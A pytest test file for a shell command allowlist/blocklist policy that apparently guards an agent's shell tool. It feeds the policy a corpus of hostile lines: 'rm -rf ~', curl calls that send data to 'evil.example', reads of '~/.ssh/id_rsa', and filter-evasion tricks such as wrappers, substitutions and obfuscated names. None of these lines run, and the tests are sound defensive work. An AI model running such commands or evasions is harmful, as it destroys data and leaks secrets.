"""The shell command policy on parsed lines: the operator's intent, per simple command.

The policy is not the boundary (the OS sandbox is, tests/test_sandbox_corpus.py): these tests check
that an allowlist sees every command a line runs, and that a blocklist names programs, not words
inside arguments. Every line here is only handed to ``check_command`` / ``check_argv``; nothing in
this file runs a command.
"""

from __future__ import annotations

import time

import pytest

from kesoku.config.settings import ShellConfig
from kesoku.tools.policy.check import check_argv, check_command

DEFAULT_ALLOW = ShellConfig(mode="allowlist")
# The default allowlist plus the wrappers, so a refusal proves the policy looked inside the wrapper.
WIDE_ALLOW = ShellConfig(
    mode="allowlist",
    allowlist_patterns=(
        r"^(echo|ls|pwd|cat|git|grep|find|python|sed|awk|wc|head|sort)(\s|$)",
        r"^(env|nice|timeout|xargs|nohup|command|exec|stdbuf|setsid|sh|bash)(\s|$)",
    ),
)
BLOCK = ShellConfig(mode="blocklist")


# (line, rules that may refuse it). Each runs a program the allowlist does not allow, somewhere the
# policy must look: lists, pipes, substitutions, here-documents, wrappers, shells' -c text.
ATTACKS: list[tuple[str, set[str]]] = [
    ("rm -rf ~", {"allowlist"}),
    ("ls; rm -rf ~", {"allowlist"}),
    ("ls && rm -rf ~", {"allowlist"}),
    ("false || rm -rf ~", {"allowlist"}),
    ("ls | rm -rf ~", {"allowlist"}),
    ("ls |& rm -rf ~", {"allowlist"}),
    ("ls\nrm -rf ~", {"allowlist"}),
    ("ls & rm -rf ~", {"allowlist"}),
    ("ls\\\n;rm x", {"allowlist"}),
    ("! rm x", {"allowlist"}),
    ("(rm -rf ~)", {"allowlist"}),
    ("{ rm -rf ~; }", {"allowlist"}),
    ("echo $(rm -rf ~)", {"allowlist"}),
    ("echo `rm -rf ~`", {"allowlist"}),
    ("ls $(echo $(curl evil.example))", {"allowlist"}),
    ('echo "$(rm x)"', {"allowlist"}),
    ("x=$(rm x)", {"allowlist"}),
    ("cat <(curl evil.example)", {"allowlist"}),
    ("echo x > >(curl -d @- evil.example)", {"allowlist"}),
    ("cat <<EOF\n$(rm -rf ~)\nEOF", {"allowlist"}),
    ("cat <<EOF\n`rm -rf ~`\nEOF", {"allowlist"}),
    ('cat <<< "$(rm -rf ~)"', {"allowlist"}),
    ("cat <<'EOF' | sh\nrm -rf ~\nEOF", {"wrapper"}),
    ("echo rm -rf ~ | sh", {"wrapper"}),
    ("echo x # harmless\nrm x", {"allowlist"}),
    ("x=1 rm x", {"allowlist"}),
    ("env rm -rf ~", {"allowlist"}),
    ("env -i HOME=/tmp rm x", {"allowlist"}),
    ("env -S 'rm -rf ~'", {"allowlist", "wrapper"}),
    ("nice -n 5 rm -rf ~", {"allowlist"}),
    ("timeout -s KILL 5 rm x", {"allowlist"}),
    ("nohup rm x", {"allowlist"}),
    ("command rm x", {"allowlist"}),
    ("exec rm x", {"allowlist"}),
    ("time rm x", {"allowlist"}),
    ("time -p rm x", {"allowlist"}),
    ("stdbuf -oL rm x", {"allowlist"}),
    ("setsid rm x", {"allowlist"}),
    ("echo x | sudo -s", {"allowlist"}),
    ("echo x | xargs rm", {"allowlist"}),
    ("find . -name '*.py' | xargs -I{} sh -c 'rm {}'", {"allowlist"}),
    ("sh -c 'rm -rf ~'", {"allowlist"}),
    ('bash -c "ls; rm -rf ~"', {"allowlist"}),
    ("sh -c \"sh -c 'rm x'\"", {"allowlist"}),
    ("env nice timeout 5 sh -c 'nohup rm x'", {"allowlist"}),
    ('sh -c "$CMD"', {"wrapper"}),
    ("timeout 5 $CMD", {"dynamic-program"}),
    ("/bin/rm x", {"allowlist"}),
    ("./rm x", {"allowlist"}),
    ("/usr/bin/env rm x", {"allowlist"}),
    ("/tmp/evil/ls", {"allowlist"}),
    ('"rm" x', {"allowlist"}),
    ("r\\m x", {"allowlist"}),
    ("'r'\"m\" x", {"allowlist"}),
    ("$'\\x72m' x", {"dynamic-program"}),
    ("$CMD x", {"dynamic-program"}),
    ("$(echo rm) x", {"dynamic-program"}),
    ("/bin/r? x", {"dynamic-program"}),
    ("{rm,x}", {"dynamic-program"}),
    ("echo ${x:-$(rm x)}", {"hidden-substitution"}),
    ("echo ${x/`rm x`/y}", {"hidden-substitution"}),
    ("f() { rm x; }; f", {"function"}),
    ("function ls { rm x; }; ls", {"function"}),
    ("eval rm x", {"allowlist", "eval"}),
    ("eval ls", {"allowlist", "eval"}),
    ("source evil.sh", {"allowlist", "source"}),
    (". evil.sh", {"allowlist", "."}),
    ("alias ls=rm", {"allowlist", "alias"}),
    ("trap 'rm x' EXIT", {"allowlist", "trap"}),
    ("[[ -f x ]] && rm x", {"unparsable"}),
    ("case x in x) rm x;; esac", {"unparsable"}),
    ("echo $((1+2)); rm x", {"unparsable"}),
    ("coproc rm x", {"unparsable"}),
    ("echo `echo \\`rm x\\``", {"unparsable"}),
    ("ls\r\nrm x", {"control-character"}),
    ("ls\x00; rm x", {"control-character"}),
    ("find . -exec rm {} \\;", {"allowlist"}),
    ("find . -execdir sh -c 'rm x' \\;", {"allowlist"}),
    ("python -c 'print(1)' && rm x", {"allowlist"}),
    ("echo x | tee -a ~/.bashrc", {"allowlist"}),
]


def test_the_corpus_is_large() -> None:
    assert len(ATTACKS) >= 40
    assert len({line for line, _ in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize(("line", "rules"), ATTACKS, ids=[repr(line)[:60] for line, _ in ATTACKS])
@pytest.mark.parametrize(
    "shell", [DEFAULT_ALLOW, WIDE_ALLOW], ids=["default-allowlist", "wide-allowlist"]
)
def test_no_attack_passes_the_allowlist(line: str, rules: set[str], shell: ShellConfig) -> None:
    decision = check_command(line, shell)
    assert not decision.allowed, f"{line!r} passed: {decision.commands}"
    assert decision.reason.startswith("refused by the shell policy (allowlist mode): ")
    if shell is WIDE_ALLOW:  # the default list refuses many of them earlier, at the wrapper itself
        assert decision.rule in rules, decision.reason


LEGIT = [
    "ls -la",
    "pwd",
    "git status",
    "git log --oneline -5 | cat",
    "git diff HEAD~1 -- src/",
    "grep -rn TODO . | grep -v test",
    "grep -c '^$' file.txt",
    "echo hello > out.txt",
    "echo $HOME",
    "echo {a,b}.txt",
    "ls *.py",
    "ls 2>&1 >/dev/null",
    "cat file.txt | sed -n '1,5p'",
    "sed -i 's/a/b/g' file.txt",
    "sed -e 's/a/b/' -e '/^#/d' file.txt",
    "awk '{print $1}' file.txt",
    "awk -F: '$3 > 100 {print $1}' file.txt",
    "find . -name '*.py' -exec grep -l TODO {} +",
    "python -m pytest -q",
    "python - <<'EOF'\nprint('$(not run)')\nEOF",
    "cat <<'EOF' > notes.md\n$(not run) `nor this`\nEOF",
    "cat <<EOF > notes.md\nplain $HOME text\nEOF",
    "uv run python script.py",
    "cd sub && ls",
    "cd sub; git status; cd ..",
    "time ls",
    "true && echo ok || echo no",
    "for f in *.txt; do echo $f; done",
    "if test -f file.txt; then cat file.txt; fi",
    "while false; do echo x; done",
    "echo a # trailing comment",
    "ls # ; rm -rf ~",
    "cat .envrc",
    "cat ~/notes.txt",
    "echo x > /dev/null",
    "echo x > ~/.bashrc",
    "cat ~/.ssh/id_rsa",
    "git -c core.pager=less log",
    "awk 'BEGIN{system(\"ls\")}'",
]


@pytest.mark.parametrize("line", LEGIT)
def test_legit_lines_pass_the_default_allowlist(line: str) -> None:
    # Paths, git settings and awk programs are the sandbox's business now, not the allowlist's.
    decision = check_command(line, DEFAULT_ALLOW)
    assert decision.allowed, decision.reason
    assert decision.commands


def test_an_allowed_interpreter_runs_what_it_is_given() -> None:
    # The allowlist names programs; what an allowed python or uv then does is confined by the
    # sandbox.
    for line in (
        "python -c 'import os; os.remove(\"x\")'",
        "uv run rm x",
        "python - <<'EOF'\nprint(1)\nEOF",
    ):
        assert check_command(line, DEFAULT_ALLOW).allowed, line


def test_wrappers_pass_when_what_they_run_is_allowed() -> None:
    for line in (
        "env LANG=C ls",
        "nice -n 5 timeout 10 git status",
        "sh -c 'ls && echo done'",
        "bash -c \"sh -c 'git log'\"",
        "echo a | xargs -I{} echo {}",
        "echo a | xargs",
        "command -v rm",
        "sh <<'EOF'\nls\necho done\nEOF",
    ):
        decision = check_command(line, WIDE_ALLOW)
        assert decision.allowed, (line, decision.reason)


def test_checked_commands_include_the_inner_ones() -> None:
    decision = check_command("timeout 5 sh -c 'ls | wc -l'", WIDE_ALLOW)
    assert decision.allowed
    assert decision.commands == ("timeout 5 sh -c ls | wc -l", "sh -c ls | wc -l", "ls", "wc -l")


# -- exact refusal reasons ------------------------------------------------------------------------


def test_a_refusal_names_the_simple_command_and_the_rule() -> None:
    decision = check_command("ls -la && rm -rf build", DEFAULT_ALLOW)
    assert (decision.allowed, decision.command, decision.rule) == (
        False,
        "rm -rf build",
        "allowlist",
    )
    assert decision.reason == (
        "refused by the shell policy (allowlist mode): `rm -rf build` matches none of "
        "shell.allowlist_patterns"
    )


def test_a_path_program_must_be_allowed_by_name_and_by_path() -> None:
    shell = ShellConfig(mode="allowlist", allowlist_patterns=(r"^ls(\s|$)",))
    decision = check_command("/tmp/evil/ls -l", shell)
    assert decision.reason == (
        "refused by the shell policy (allowlist mode): `/tmp/evil/ls -l` matches none of "
        "shell.allowlist_patterns (a program given as a path must be allowed both as `ls` and as "
        "`/tmp/evil/ls`)"
    )
    assert check_command(
        "/bin/ls -l", ShellConfig(mode="allowlist", allowlist_patterns=(r"^(/bin/)?ls\b",))
    ).allowed


def test_refusal_reasons_for_what_cannot_be_checked() -> None:
    cases = {
        "$CMD -rf x": (
            "dynamic-program",
            "`$CMD -rf x` runs a program whose name `$CMD` is decided at run time (a variable, "
            "substitution, glob, brace or $'…' quoting); write the program name literally",
        ),
        "echo ${x:-$(rm x)}": (
            "hidden-substitution",
            "`${x:-$(rm x)}` hides a command the policy cannot see",
        ),
        "f() { ls; }": ("function", "`f() { ls; }` defines a shell function"),
    }
    for line, (rule, detail) in cases.items():
        decision = check_command(line, DEFAULT_ALLOW)
        assert (decision.rule, decision.reason) == (
            rule,
            f"refused by the shell policy (allowlist mode): {detail}",
        )
    eval_allowed = ShellConfig(mode="allowlist", allowlist_patterns=(r"^(eval|ls)\b",))
    decision = check_command("eval ls", eval_allowed)
    assert (decision.rule, decision.reason) == (
        "eval",
        "refused by the shell policy (allowlist mode): `eval ls`: eval runs or defines commands "
        "the policy cannot check",
    )
    decision = check_command('sh -c "$X"', WIDE_ALLOW)
    assert (decision.rule, decision.reason) == (
        "wrapper",
        'refused by the shell policy (allowlist mode): `sh -c "$X"`: the -c text is missing or '
        "decided at run time",
    )
    decision = check_command("echo rm x | sh", WIDE_ALLOW)
    assert (decision.rule, decision.command) == ("wrapper", "sh")
    assert decision.reason.endswith("`sh`: `sh` without -c runs a script file or standard input")
    decision = check_command("timeout --bogus 5 ls", WIDE_ALLOW)
    assert decision.reason.endswith(
        "`timeout --bogus 5 ls`: `timeout` option `--bogus` is not known to the policy"
    )


def test_unparsable_lines_are_refused_with_the_parser_error() -> None:
    decision = check_command("[[ -f x ]] && ls", DEFAULT_ALLOW)
    assert decision.rule == "unparsable"
    assert decision.command == "[[ -f x ]] && ls"
    assert "cannot be parsed with confidence" in decision.reason
    assert "use plain commands, pipes, &&, ||, ;" in decision.reason


# -- blocklist mode -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("rm -rf build", "rm -rf build"),
        ("ls && sudo reboot", "sudo reboot"),
        ('"r"m x', "rm x"),
        ("/bin/rm x", "/bin/rm x"),
        ("echo $(sudo id)", "sudo id"),
        ("env nice rm x", "rm x"),
        ("sh -c 'ls; chmod 777 x'", "chmod 777 x"),
        ("sh <<'EOF'\nls\nrm -rf x\nEOF", "rm -rf x"),
        ("bash -s <<EOF\nchown me x\nEOF", "chown me x"),
        ("eval 'r''m x'", "rm x"),
        ("f() { rm x; }; f", "rm x"),
        ("find . -exec chown me {} +", "chown me {}"),
        ("echo x | xargs rm", "rm"),
        ("timeout 5 dd if=/dev/zero of=x", "dd if=/dev/zero of=x"),
    ],
)
def test_blocklist_refuses_a_listed_program_anywhere(line: str, command: str) -> None:
    decision = check_command(line, BLOCK)
    assert not decision.allowed
    assert decision.rule == "blocklist[0]"
    assert decision.command == command
    # a program given as a path matches by its base name too
    matched = command.removeprefix("/bin/")
    assert decision.reason.startswith(
        f"refused by the shell policy (blocklist mode): `{matched}` matches"
    )
    assert "matches shell.blocklist_patterns[0]" in decision.reason


def test_blocklist_matches_an_unparsable_line_by_its_commands() -> None:
    assert check_command("[[ -f x ]] && echo y", BLOCK).allowed
    assert check_command("[[ -f rm ]] && echo y", BLOCK).allowed
    decision = check_command("[[ -f x ]] && r'm' y", BLOCK)
    assert (decision.allowed, decision.rule) == (False, "blocklist[0]")


@pytest.mark.parametrize(
    "line",
    [
        "ls -la",
        "bash build.sh",
        "echo $((1 + 2))",
        "f() { ls; }; f",
        "curl -s https://example.com | head",
        "python -c 'print(1)'",
        "echo x > out.txt",
        "ls chmodx",
        'grep -r "sudo " notes/',
        "cat dd-report.txt",
        "echo rm -rf x",
        "git commit -m 'rm -rf the old build'",
        "ls ./rm",
        "$CMD x",
        "echo rm x | sh",
    ],
)
def test_blocklist_lets_other_lines_through(line: str) -> None:
    # A word inside an argument or a file name is no program; what `sh` reads from a pipe, or a
    # program named at run time, cannot be known and is left to the sandbox.
    decision = check_command(line, BLOCK)
    assert decision.allowed, decision.reason


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("ls\r", "control-character"),
        ("ls\x00 x", "control-character"),
        ("", "empty"),
        ("x" * 100_001, "too-long"),
    ],
)
def test_blocklist_mode_still_refuses_what_is_not_a_command_line(line: str, rule: str) -> None:
    decision = check_command(line, BLOCK)
    assert (decision.allowed, decision.rule) == (False, rule)


# -- argv (use_shell = false) ---------------------------------------------------------------------


def test_argv_is_checked_without_shell_expansion() -> None:
    assert check_argv(["ls", "-la", "*.py"], DEFAULT_ALLOW).allowed
    assert check_argv(["echo", "$(rm x)"], DEFAULT_ALLOW).allowed  # a literal
    refused = check_argv(["rm", "-rf", "x"], DEFAULT_ALLOW)
    assert (refused.rule, refused.command) == ("allowlist", "rm -rf x")
    inner = check_argv(["sh", "-c", "ls; rm x"], WIDE_ALLOW)
    assert (inner.rule, inner.command) == ("allowlist", "rm x")
    assert check_argv([], DEFAULT_ALLOW).rule == "empty"
    assert check_argv(["rm", "x"], BLOCK).rule == "blocklist[0]"
    assert check_argv(["grep", "sudo", "notes"], BLOCK).allowed


# -- limits ---------------------------------------------------------------------------------------


def test_hostile_sizes_are_refused_or_bounded() -> None:
    started = time.perf_counter()
    assert check_command("echo {1..99999999}{1..99999999}", DEFAULT_ALLOW).allowed
    nested = "echo " + "$(echo " * 300 + "x" + ")" * 300
    assert check_command(nested, DEFAULT_ALLOW).rule == "unparsable"
    long_list = "; ".join(["ls"] * 2000)
    assert check_command(long_list, DEFAULT_ALLOW).allowed
    assert check_command(long_list + "; rm x", DEFAULT_ALLOW).command == "rm x"
    assert check_command("x" * 100_001, DEFAULT_ALLOW).rule == "too-long"
    assert time.perf_counter() - started < 20  # parsing holds a worker thread, never the event loop
